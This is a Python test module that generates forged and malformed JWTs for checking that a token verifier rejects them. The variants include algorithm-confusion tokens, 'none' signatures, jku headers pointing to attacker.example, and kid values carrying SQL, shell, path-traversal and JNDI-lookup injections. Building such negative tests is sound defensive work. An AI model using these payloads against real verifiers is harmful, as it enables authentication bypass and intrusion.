"""Tokens that differ from a good one in one thing each, by what they attack: `KINDS`.

Each is made when it is sent, so that none is refused only for being old.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import itertools
import json
import time
from collections.abc import Callable
from typing import Any

import jwt
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature

from tests import callers
from tests.callers import (
    DISCOVERY,
    EC_KEY,
    EC_KID,
    ED_KEY,
    FEEDBACK,
    ISS,
    OTHER_KEY,
    PUBLIC,
    RSA_KEY,
    SERVICE,
    b64,
    claims,
    public_jwk,
    signed,
    token,
)

STRICT, MELD = "https://strict.example.org", "https://meld.example.org"  # issuers with lists of their own
LISTED_JKU = "https://strict.example.org/keys"
Make = Callable[[], str]
Variants = dict[str, Make]


def make(*given: Any, **changed: Any) -> Make:
    return lambda: token(*given, **changed)


def since(seconds: float) -> int:
    return int(time.time() + seconds)


def with_header(header: Any, key: Any = EC_KEY, algorithm: str = "ES384") -> Make:
    """Rightly signed, with exactly this header."""
    return lambda: signed(json.dumps(header).encode(), json.dumps(claims()).encode(), key, algorithm)


def with_payload(change: Callable[[], Any]) -> Make:
    """Rightly signed, with exactly this payload: bytes, or what becomes JSON."""

    def made() -> str:
        payload = change()
        raw = payload if isinstance(payload, bytes) else json.dumps(payload).encode()
        return signed(json.dumps(HEADER).encode(), raw)

    return made


HEADER = {"alg": "ES384", "typ": "JWT", "kid": EC_KID}


def parts() -> list[str]:
    return token().split(".")


# ---- the algorithm ----


def public_forms(key: Any, kid: str) -> dict[str, bytes]:
    """What a careless verifier might take for a shared secret: a public key in every shape in which it lies about."""
    public, jwk = key.public_key(), public_jwk(key, kid)
    der = public.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
    ssh = public.public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH)
    first = jwk.get("x") or jwk["n"]
    return {
        "PEM": callers.pem(key),
        "PEM without its last line break": callers.pem(key).strip(),
        "PEM with Windows line breaks": callers.pem(key).replace(b"\n", b"\r\n"),
        "DER": der,
        "DER in base64": b"".join(callers.pem(key).splitlines()[1:-1]),
        "SSH": ssh,
        "JWK": json.dumps(jwk).encode(),
        "JWK without spaces": json.dumps(jwk, separators=(",", ":")).encode(),
        "first number": first.encode(),
        "first number, raw": jwt.utils.base64url_decode(first),
        "key set": callers.our_keys(),
        "kid": kid.encode(),
    }


def symmetric(algorithm: str, secret: bytes, kid: str) -> Make:
    def made() -> str:
        header = json.dumps({"alg": algorithm, "typ": "JWT", "kid": kid}).encode()
        head = f"{b64(header)}.{b64(json.dumps(claims()).encode())}"
        return f"{head}.{b64(hmac.digest(secret, head.encode(), f'sha{algorithm[2:]}'))}"

    return made


def unsigned(algorithm: Any, signature: str) -> Make:
    return lambda: f"{b64(json.dumps({**HEADER, 'alg': algorithm}).encode())}.{parts()[1]}.{signature}"


def algorithms() -> Variants:
    found: Variants = {}
    for name, (key, kid) in itertools.product(("HS256", "HS384", "HS512"), ((EC_KEY, EC_KID), (RSA_KEY, "rsa"))):
        for form, secret in public_forms(key, kid).items():
            found[f"{name} with the {kid} key as secret: {form}"] = symmetric(name, secret, kid)
    for secret in (b"", b"secret", b"\0", b"null"):
        found[f"HS256 with the secret {secret!r}"] = symmetric("HS256", secret, EC_KID)
    for name, signature in itertools.product(("none", "None", "NONE", "nOnE", "none\0", " none"), ("", "AA", "none")):
        found[f"{name!r} with the signature {signature!r}"] = unsigned(name, signature)
    odd: list[Any] = [
        "",
        None,
        0,
        True,
        ["ES384"],
        {"ES384": 1},
        "es384",
        "ES384 ",
        "ES384\0",
        "ES256K",
        "dir",
        "A128KW",
    ]
    for value in odd:
        found[f"ES384 called {value!r}"] = with_header({**HEADER, "alg": value})
    found["no algorithm named"] = with_header({"typ": "JWT", "kid": EC_KID})
    for name in ("RS256", "RS512", "PS256", "PS384", "PS512"):
        found[f"{name}, which was not agreed"] = make(RSA_KEY, name, {"kid": "rsa"})
    for name in ("ES256", "ES512", "RS384", "PS384", "EdDSA", "HS384"):
        found[f"an ES384 signature called {name}"] = with_header({**HEADER, "alg": name})
    keys = {EC_KID: (EC_KEY, "ES384"), "rsa": (RSA_KEY, "RS384"), "ed": (ED_KEY, "EdDSA")}
    for (kid, _), (other, (key, name)) in itertools.product(keys.items(), keys.items()):
        if kid != other:
            found[f"{name} under the id of {kid}"] = make(key, name, {"kid": kid})
    return found


# ---- keys that the token brings along ----


def foreign_keys() -> Variants:
    jwk = public_jwk(OTHER_KEY, EC_KID)
    brought: dict[str, dict[str, Any]] = {
        "nothing": {},
        "jwk": {"jwk": jwk},
        "jwk with alg": {"jwk": {**jwk, "alg": "ES384"}},
        "jku": {"jku": "https://attacker.example/keys"},
        "jku on loopback": {"jku": "KEY_SERVER"},
        "jku to a file": {"jku": "file:///etc/passwd"},
        "jku with the issuer as user": {"jku": "https://ehr.example.org@attacker.example/keys"},
        "x5u": {"x5u": "KEY_SERVER"},
        "x5c": {"x5c": [b64(callers.pem(OTHER_KEY))]},
        "x5t": {"x5t": hashlib.sha1(callers.pem(OTHER_KEY)).hexdigest()},
        "all of them": {"jwk": jwk, "jku": "KEY_SERVER", "x5u": "KEY_SERVER", "x5c": ["AA=="]},
    }
    found: Variants = {}
    for (name, header), kid in itertools.product(brought.items(), (EC_KID, "attacker", "KEY_SERVER")):
        found[f"signed by a stranger who brings {name}, kid {kid}"] = make(OTHER_KEY, header={**header, "kid": kid})
    for jku in ("https://other.example.org/keys", f"{LISTED_JKU}/", LISTED_JKU.upper(), "", None, [LISTED_JKU], 5):
        found[f"rightly signed, but jku {jku!r} where another is agreed"] = make(
            header={"jku": jku}, iss=STRICT, **OURS
        )
    return found


OURS = {"sub": "client-1", "tenant": "hospital-a"}  # what the strict issuer's tokens must say


# ---- the key id ----


def key_ids() -> Variants:
    values: list[Any] = [
        "unknown", EC_KID.lower(), EC_KID.rstrip("="), f" {EC_KID}", f"{EC_KID} ", f"{EC_KID}\0", f"{EC_KID}\n",
        EC_KID.replace("+", " "), EC_KID.replace("+", "%2B"), EC_KID.replace("/", "_").replace("+", "-"),
        "RSA", "keys.json", "./keys.json", "../../../../etc/passwd", "/dev/null", "/dev/urandom", "file:///dev/null",
        "http://127.0.0.1/keys", "\\\\attacker\\share", "' OR '1'='1", "'; DROP TABLE token; --", "' UNION SELECT 'k",
        "| sleep 10", "$(id)", "`id`", "{{7*7}}", "${jndi:ldap://attacker.example/a}", "%s%s%n", "__class__", "0", "*",
        "keys[0]", "\u202e", "\u2169o+/c2lnbg==", "\ud800", "k" * 9000, "\0" * 1000,
    ]  # fmt: skip
    found = {f"kid {value[:40]!r}": with_header({**HEADER, "kid": value}) for value in values}
    odd: list[Any] = [None, "", " ", 0, 1.5, True, False, [], [EC_KID], {}, {"kid": EC_KID}, {"$ne": None}]
    found |= {f"kid {value!r}": with_header({**HEADER, "kid": value}) for value in odd}
    return {**found, "no kid": with_header({"alg": "ES384", "typ": "JWT"})}


# ---- whom it is for ----


def mangled(url: str) -> dict[str, Any]:
    base, path = url.removeprefix("https://").partition("/")[::2]
    return {
        "with a slash": f"{url}/",
        "with a query": f"{url}?",
        "with a fragment": f"{url}#",
        "with a dot step": f"https://{base}/./{path}",
        "with two slashes": f"https://{base}//{path}",
        "escaped": url.replace("-", "%2D"),
        "in capitals": url.upper(),
        "host in capitals": f"https://{base.upper()}/{path}",
        "path in capitals": f"https://{base}/{path.upper()}",
        "with the standard port": f"https://{base}:443/{path}",
        "with another port": f"https://{base}:8443/{path}",
        "by http": f"http://{base}/{path}",
        "without scheme": f"//{base}/{path}",
        "the path alone": f"/{path}",
        "the base alone": f"https://{base}",
        "the base with a slash": f"https://{base}/",
        "with a user": f"https://user@{base}/{path}",
        "a host that begins alike": f"https://{base}.attacker.example/{path}",
        "a dot after the host": f"https://{base}./{path}",
        "a space before": f" {url}",
        "a space behind": f"{url} ",
        "a line break behind": f"{url}\n",
        "cut": url[:-1],
        "and more": f"{url}x",
        "the setting's word": "endpoint",
        "another issuer's fixed one": "sand_man",
        "blank": "",
        "a list of nothing": [],
        "a list of others": ["https://other.example.org", f"{url}/"],
        "a list in a list": [[url]],
        "a list with a number": [url, 5],
        "an object": {url: url},
        "a number": 5,
        "a yes": True,
        "null": None,
    }


def audience_of(path: str) -> Variants:
    url = PUBLIC + path
    found = {name: with_payload(lambda value=value: {**claims(), "aud": value}) for name, value in mangled(url).items()}
    others = {other for other in (DISCOVERY, SERVICE, FEEDBACK, "/cds-services/spine-order-sign") if other != path}
    return (
        found
        | {f"for {other}": make(aud=PUBLIC + other) for other in sorted(others)}
        | {
            "none": make(aud=None),
            "of an issuer with a fixed one": make(iss=MELD, aud=url),
        }
    )


def audiences() -> Variants:
    return {f"aud: {name}": one for name, one in audience_of(SERVICE).items()}


# ---- times ----

NO_TIMES: list[Any] = [
    "", "soon", "1", True, False, [], [1], {}, -1, 0, -(10**10), 10**11, 10**13, 10**400, 1e308,
    float("nan"), float("inf"), float("-inf"),
]  # fmt: skip


def times() -> Variants:
    found: Variants = {}
    for name, value in itertools.product(("exp", "iat", "nbf"), NO_TIMES):
        found[f"{name} {str(value)[:20]!r}"] = with_payload(lambda name=name, value=value: {**claims(), name: value})
    for name in ("exp", "iat"):
        found[f"no {name}"] = make(**{name: None})
        found[f"{name} null"] = with_payload(lambda name=name: {**claims(), name: None})
        found[f"{name} in quotes"] = with_payload(lambda name=name: {**claims(), name: str(claims()[name])})
        found[f"{name} in milliseconds"] = with_payload(lambda name=name: {**claims(), name: claims()[name] * 1000})
    spans = {  # seconds from now: issued, expires
        "expired beyond the skew": (-400, -62),
        "expired yesterday": (-90_000, -86_400),
        "expired as it was issued": (0, 0),
        "expires before it is issued": (30, -30),
        "issued beyond the skew ahead": (63, 300),
        "issued tomorrow": (86_400, 86_700),
        "lives a second too long": (0, 3601),
        "lives a day": (0, 86_400),
        "lives for ever": (0, 10**9),
        "issued long ago, lives too long": (-3500, 200),
    }
    for name, (issued, expires) in spans.items():
        found[name] = lambda issued=issued, expires=expires: token(iat=since(issued), exp=since(expires))
    found["not before later"] = lambda: token(nbf=since(63))
    found["not before a year later"] = lambda: token(nbf=since(31_536_000))
    found["written as 1e400"] = with_payload(lambda: json.dumps(claims()).encode()[:-1] + b', "exp": 1e400}')
    found["written with 5000 digits"] = with_payload(
        lambda: json.dumps(claims()).encode()[:-1] + b', "exp": ' + b"9" * 5000 + b"}"
    )
    return found


# ---- who it is from, and which one it is ----


def names() -> Variants:
    found: Variants = {}
    others: list[Any] = [
        "https://other.example.org", f"{ISS}/", ISS.upper(), ISS.replace("https", "http"), f" {ISS}", f"{ISS} ",
        f"{ISS}\0", ISS[:-1], f"{ISS}#", ISS.replace("e", "\u0435"), "", " ", 0, True, [], [ISS], {}, {"iss": ISS},
        "\ud800", "*",
    ]  # fmt: skip
    found |= {f"iss {value!r}": with_payload(lambda value=value: {**claims(), "iss": value}) for value in others}
    bad: list[Any] = ["", " ", "\n", 0, 5, True, [], ["a"], {}, "\ud800", None]
    found |= {f"jti {value!r}": with_payload(lambda value=value: {**claims(), "jti": value}) for value in bad}
    found |= {f"no {name}": make(**{name: None}) for name in ("iss", "jti")}
    for name, right in OURS.items():
        wrong: list[Any] = [None, "", right.upper(), f"{right} ", right[:-1], [right], 5, {right: 1}, "other"]
        for value in wrong:
            said = {**OURS, name: value}
            found[f"{name} {value!r} where {right} is asked for"] = with_payload(
                lambda said=said: {**claims(iss=STRICT), **said}
            )
        found[f"no {name} where one is asked for"] = make(iss=STRICT, **{**OURS, name: None})
    found["sub that is no text"] = with_payload(lambda: {**claims(), "sub": 5})
    found["another issuer's key"] = make(iss="https://alone.example.org")
    return found


# ---- signature and form ----


def with_signature(change: Callable[[bytes], bytes]) -> Make:
    def made() -> str:
        head, body, signature = parts()
        return f"{head}.{body}.{b64(change(jwt.utils.base64url_decode(signature)))}"

    return made


ORDER = 0xFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFC7634D81F4372DDF581A0DB248B0A77AECEC196ACCC52973  # of P-384


def signatures() -> Variants:
    other = {
        "of another token": lambda: ".".join([*parts()[:2], parts()[2]]),
        "by another key": lambda: token(OTHER_KEY),
        "payload changed afterwards": lambda: ".".join([(p := parts())[0], b64(json.dumps(claims()).encode()), p[2]]),
        "header changed afterwards": lambda: ".".join([b64(json.dumps(HEADER, indent=1).encode()), *parts()[1:]]),
    }
    shaped: dict[str, Callable[[bytes], bytes]] = {
        "all zero": lambda s: bytes(len(s)),
        "r is zero": lambda s: bytes(48) + s[48:],
        "s is zero": lambda s: s[:48] + bytes(48),
        "both the order of the curve": lambda s: ORDER.to_bytes(48) * 2,
        "all ones": lambda s: b"\xff" * len(s),
        "cut by a byte": lambda s: s[:-1],
        "longer by a byte": lambda s: s + b"\0",
        "a byte before": lambda s: b"\0" + s,
        "twice": lambda s: s + s,
        "halves exchanged": lambda s: s[48:] + s[:48],
        "one bit": lambda s: bytes([s[0] ^ 1]) + s[1:],
        "the last bit": lambda s: s[:-1] + bytes([s[-1] ^ 1]),
        "in DER": lambda s: encode_dss_signature(int.from_bytes(s[:48]), int.from_bytes(s[48:])),
        "one byte": lambda s: s[:1],
        "empty": lambda s: b"",
    }
    return other | {f"signature {name}": with_signature(change) for name, change in shaped.items()}


def signed_text(written: Callable[[bytes], bytes]) -> str:
    """Header and payload in another spelling than RFC 7515 has, the signature over that spelling."""
    header = json.dumps({**HEADER, "x": "~~~???>>>"}).encode()
    head = b".".join(
        (written(header + b" " * (2 - len(header) % 3)), written(json.dumps(claims(more="???>>>~~~")).encode()))
    )
    signer = jwt.get_algorithm_by_name("ES384")
    return f"{head.decode()}.{b64(signer.sign(head, EC_KEY))}"


def forms() -> Variants:
    def raw(change: Callable[[str], str]) -> Make:
        return lambda: change(token())

    found: Variants = {
        "padded, and signed so": lambda: signed_text(base64.urlsafe_b64encode),
        "in the other base64, and signed so": lambda: signed_text(lambda raw: base64.b64encode(raw).rstrip(b"=")),
        "in lines of base64, and signed so": lambda: signed_text(base64.encodebytes).replace("\n", " "),
        "in hexadecimal, and signed so": lambda: signed_text(lambda raw: raw.hex().encode()),
        "the signature padded": raw(lambda t: f"{t}=="),
        "a plus sign": raw(lambda t: f"{t[:-1]}+"),
        "a slash": raw(lambda t: f"{t[:-1]}/"),
        "no signature part": raw(lambda t: t.rpartition(".")[0]),
        "only the header": raw(lambda t: t.partition(".")[0]),
        "a fourth part": raw(lambda t: f"{t}.AA"),
        "five parts": raw(lambda t: f"{t}.AA.AA"),
        "a dot behind": raw(lambda t: f"{t}."),
        "a dot before": raw(lambda t: f".{t}"),
        "only dots": lambda: "..",
        "no header": raw(lambda t: "." + t.partition(".")[2]),
        "no payload": raw(lambda t: t.split(".")[0] + ".." + t.split(".")[2]),
        "a word": lambda: "nonsense",
        "null": lambda: "null",
        "undefined": lambda: "undefined",
        "quoted": raw(lambda t: f'"{t}"'),
        "in angle brackets": raw(lambda t: f"<{t}>"),
        "Bearer twice": raw(lambda t: f"Bearer {t}"),
        "a space within": raw(lambda t: f"{t[:50]} {t[50:]}"),
        "a tab within": raw(lambda t: f"{t[:50]}\t{t[50:]}"),
        "two tokens": raw(lambda t: f"{t} {token()}"),
        "two tokens with a comma": raw(lambda t: f"{t},{token()}"),
        "a parameter behind": raw(lambda t: f"{t}; charset=utf-8"),
        "escaped dots": raw(lambda t: t.replace(".", "%2E")),
        "an escaped line break": raw(lambda t: f"{t}%0a"),
        "a byte of Latin-1": raw(lambda t: f"{t[:50]}\xe9{t[50:]}"),
        "a soft hyphen": raw(lambda t: f"{t[:50]}\xad{t[50:]}"),
        "as JSON": raw(
            lambda t: json.dumps(dict(zip(("protected", "payload", "signature"), t.split("."), strict=True)))
        ),
        "17 kB, the signature right": with_payload(lambda: claims(more="x" * 12_500)),
        "64 kB, the signature right": with_payload(lambda: claims(more="x" * 48_000)),
        "200 kB": lambda: "a." + "b" * 200_000 + ".c",
        "a header of brackets": lambda: f"{b64(b'[' * 6000)}.e30.AA",
        "a payload of brackets": with_payload(lambda: b"[" * 6000),
        "a claim of brackets": with_payload(lambda: b'{"iss": ' + b"[" * 6000 + b"}"),
    }
    for written in ("[]", "null", "5", '"a"', "true", "", "{", "{}", "\ufeff{}", '{"alg"}', "NaN"):
        found[f"header {written!r}"] = lambda written=written: signed(written.encode(), json.dumps(claims()).encode())
        found[f"payload {written!r}"] = with_payload(lambda written=written: written.encode())
    found["a payload that is no text"] = with_payload(lambda: b'{"iss": "\xff\xfe"}')
    return found


def extensions() -> Variants:
    said: dict[str, dict[str, Any]] = {
        "crit exp": {"crit": ["exp"], "exp": 1},
        "crit b64": {"crit": ["b64"], "b64": True},
        "crit unknown": {"crit": ["x"], "x": 1},
        "crit of what is not there": {"crit": ["x"]},
        "crit empty": {"crit": []},
        "crit null": {"crit": None},
        "crit a word": {"crit": "b64"},
        "crit an object": {"crit": {}},
        "b64 without crit": {"b64": False},
        "b64 yes": {"b64": True},
        "b64 null": {"b64": None},
        "crit b64 no": {"crit": ["b64"], "b64": False},
    }
    found = {name: with_header({**HEADER, **more}) for name, more in said.items()}
    detached = json.dumps({**HEADER, "crit": ["b64"], "b64": False}).encode()
    found["an unencoded payload"] = lambda: f"{b64(detached)}..{parts()[2]}"
    types: list[Any] = [
        "at+jwt",
        "application/jwt",
        "JOSE",
        "JWE",
        "dpop+jwt",
        "",
        " ",
        "JWT ",
        "J",
        None,
        5,
        True,
        ["JWT"],
    ]
    found |= {f"typ {value!r}": with_header({**HEADER, "typ": value}) for value in types}
    return {**found, "no typ": with_header({"alg": "ES384", "kid": EC_KID})}


KINDS: dict[str, Callable[[], Variants]] = {
    "algorithm": algorithms,
    "foreign key": foreign_keys,
    "key id": key_ids,
    "audience": audiences,
    "time": times,
    "name": names,
    "signature": signatures,
    "form": forms,
    "header extension": extensions,
}
